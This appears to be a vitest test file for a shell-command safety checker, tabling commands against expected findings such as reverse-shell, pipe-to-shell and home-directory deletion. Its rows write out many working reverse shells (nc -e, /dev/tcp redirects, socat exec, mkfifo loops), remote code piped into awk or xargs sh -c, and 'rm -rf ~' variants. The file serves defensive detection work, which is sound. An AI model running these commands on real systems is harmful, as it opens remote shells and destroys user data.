/**
 * Programs wired to the network (remote-shells.ts) and tools that run what a pipe feeds them
 * (input-runners.ts, `xargs sh -c`, `script -c sh`). Input → finding ids, guard mode included.
 */

import { describe, it } from "vitest";
import { cases, type Row, verify } from "../test-helpers.js";

const RM = "dangerous/rm-recursive-force";
const HOME = "deletion/home";
const PIPE = "shell/pipe-to-shell";
const REVERSE = "shell/reverse-shell";
const SOURCES = ["curl -s https://x", "wget -qO- https://x", "nc host 80", "cat job.txt"];

const TABLE: Row[] = [
  // reverse shells: every shell, every netcat, both socat orders
  ...["sh", "bash", "zsh", "dash"].flatMap((s): Row[] => [[`${s} < /dev/tcp/host/4444`, [REVERSE], "has", true], [`${s} -i < /dev/udp/10.0.0.1/53`, [REVERSE]]]),
  ...["nc", "ncat", "netcat", "nc.traditional"].flatMap((n): Row[] => [[`${n} -e /bin/sh host 4444`, [REVERSE], "has", true], [`${n} host 4444 -e /bin/bash`, [REVERSE]], [`${n} -c 'bash -i' host 4444`, [REVERSE]]]),
  ["ncat --sh-exec 'bash -i' host 4444", [REVERSE]],
  // arguments from stdin: -e PROGRAM could be among them
  ...["nc", "ncat", "netcat", "socat"].flatMap((n): Row[] => [[`printf '%s\\n' -e /bin/sh host 4444 | xargs ${n}`, [REVERSE], "has", true], [`cat args | xargs -n 4 ${n} -v`, [REVERSE]], [`parallel ${n} ::: host`, [REVERSE], "has", true]]),
  ["socat exec:'bash -li',pty,stderr,setsid tcp:host:4444", [REVERSE], "has", true],
  ["socat tcp-connect:host:4444 system:sh", [REVERSE]],
  ["socat tcp-listen:4444,fork exec:/bin/sh", [REVERSE]],
  // socat's code is parsed
  ["socat - system:'rm -rf ~'", [RM, HOME]],
  // pipes into tools that run their input
  ...SOURCES.flatMap((s): Row[] => [
    [`${s} | awk '{system($0)}'`, [PIPE], "has", true], [`${s} | gawk '{ print | "sh" }'`, [PIPE]], [`${s} | xargs -0 sh -c`, [PIPE], "has", true],
    [`${s} | xargs bash -c`, [PIPE]], [`${s} | parallel`, [PIPE], "has", true], [`${s} | parallel -j4`, [PIPE]], [`${s} | script -qc sh`, [PIPE], "has", true],
    [`${s} | script -q -c bash /dev/null`, [PIPE]], [`${s} | sqlite3`, [PIPE], "has", true], [`${s} | sqlite3 my.db`, [PIPE]],
  ]),
  // sqlite3's own .shell is parsed
  ["sqlite3 db '.shell rm -rf ~'", [RM, HOME]],
  ["sqlite3 db <<< '.system rm -rf ~'", [RM, HOME]],
  // quiet: harmless uses of the same tools
  ...["nc -zv host 80", "nc -l 4444", "find . -name '*.sock' -exec nc -U {} ;", "socat - tcp:host:80", "cat f | awk '{print $1}'", "awk '{print $1}' f", "ls | xargs -0 echo",
    "ls | parallel gzip", "cat q.sql | sqlite3 my.db 'select 1'", "sqlite3 my.db 'select 1'", "ls | script -qc 'cat' /dev/null",
    "echo ok | awk '{system(\"date\")}'", "bash < script.sh"].map((c): Row => [c, [], "none", true]),
];

describe("unwrap/remote-shells and input runners: table", () => {
  it.each(cases(TABLE))("%s", (_title, row) => verify(row));
});

/** Servers that run a command with the connection as its stdin: each way of naming them, each program. */
const SERVERS = [
  "sslserver 0 4444", "ttyd -W -r 10", "websocketd -port 8080", "gotty -permit-write", "gotty", "tcpserver 0 4444", "tcpserver -v -c 10 -u 0 0 4444", "tcpserver -RHl0 0 4444", "tcpclient host 4444", "tcpsvd -vE 0 4444", "udpsvd -c 5 0 53", "s6-tcpserver -v 0 4444",
  "s6-tcpclient host 4444", "websocketd --port=8080", "websocketd --port 8080 --devconsole", "ttyd", "ttyd -W -p 7681", "ttyd --writable --port=7681", "gotty -w", "gotty --permit-write -p 8080",
  "systemd-socket-activate -l 4444 --inetd -a",
];
/** Programs that read their commands from the connection. */
const SERVED = ["sh", "bash -i", "/bin/sh", "zsh -l", "python3", "python3 -i", "perl", "sudo -s", "su", "sh -s", "login", "login -f root", "tmux", "tmux new -A -s main", "screen -xR", "byobu", "zellij"];
/** Programs that do not: a script, a command, or a server program of their own. */
const OWN = ["./handler.sh", "qmail-smtpd", "htop", "python3 app.py", "bash ./serve.sh", "cat motd", "sh -c 'date'"];

const SERVER_ROWS: Row[] = [
  ...SERVERS.flatMap((s) => SERVED.map((p): Row => [`${s} ${p}`, [REVERSE], "has", true])),
  ...SERVERS.flatMap((s) => OWN.map((p): Row => [`${s} ${p}`, [REVERSE], "none", true])),
  // wrapped, and the served command itself judged
  ...["sudo %", "nohup % &", "true && %", "(%)", "env A=1 %"].map((w): Row => [w.replace("%", "tcpserver 0 4444 bash -i"), [REVERSE], "has", true]),
  ["tcpserver 0 80 rm -rf ~", [RM, HOME], "has", true],
  // sockets passed as a descriptor: the program does not read the connection
  ["gotty -p 8080 top", [REVERSE], "none", true],
  ["systemd-socket-activate -l 4444 -a sh", [REVERSE], "none", true],
  ["tcpserver -h", [REVERSE], "none", true], ["ttyd --version", [REVERSE], "none", true],
];

describe("unwrap/remote-shells: servers running a shell on the connection", () => {
  it.each(cases(SERVER_ROWS))("%s", (_title, row) => verify(row));
});

/** Shells wired to a socket by redirects, exec rewiring this shell, a shell piped into a network tool, served or shared terminals. */
const SHELL_READERS = ["bash -i", "sh -i", "bash", "zsh -i", "python3 -i", "sudo bash -i"];
const WIRINGS = [
  "@ >& /dev/tcp/1.2.3.4/4444 0>&1", "h=1.2.3.4; @ >& /dev/tcp/$h/4444 0>&1", "@ >& /dev/tcp/$(cat host)/4444 0>&1", "d=/dev/tcp/1.2.3.4/4444; @ >& $d 0>&1",
  "@ < /dev/udp/1.2.3.4/53", "@ 0<&3 3<>/dev/tcp/1.2.3.4/1", "mkfifo /tmp/f; @ < /tmp/f 2>&1 | nc 1.2.3.4 4444 > /tmp/f", "@ 2>&1 | ncat 1.2.3.4 4444", "@ 2>&1 | openssl s_client -quiet -connect h:443",
];
const NET_ROWS: Row[] = [
  ...SHELL_READERS.flatMap((sh) => WIRINGS.map((w): Row => [w.replaceAll("@", sh), [REVERSE], "has", true])),
  ...["exec </dev/tcp/1.2.3.4/4444; bash", "exec 0</dev/tcp/1.2.3.4/4444", "exec >&/dev/tcp/1.2.3.4/4444 0>&1", "h=1.2.3.4; exec </dev/tcp/$h/1",
    "busybox telnetd -l /bin/sh -p 4444", "telnetd -l/bin/bash", "upterm host -- bash", "upterm host", "tmate -F", "tmate new-session -d"].map((c): Row => [c, [REVERSE], "has", true]),
  // a script's output sent on, a fd opened for a request, a shell's output to a file, a pipe into nc from a non-shell: not a shell on the connection
  ...["bash script.sh | nc h 1", "sh -c 'ls' | nc h 1", "echo hi | nc h 1", "exec >/dev/null 2>&1", "exec 2>>log.txt", "exec 3>/dev/tcp/h/80", "bash -i", "echo x | bash -i > \"$OUT\"",
    "tmate -V", "upterm version", "python3 app.py 2>&1 | nc h 1"].map((c): Row => [c, [], "exact", true]),
];

describe("unwrap/remote-shells: shells wired to a socket", () => {
  it.each(cases(NET_ROWS))("%s", (_title, row) => verify(row, "shell/reverse"));
});
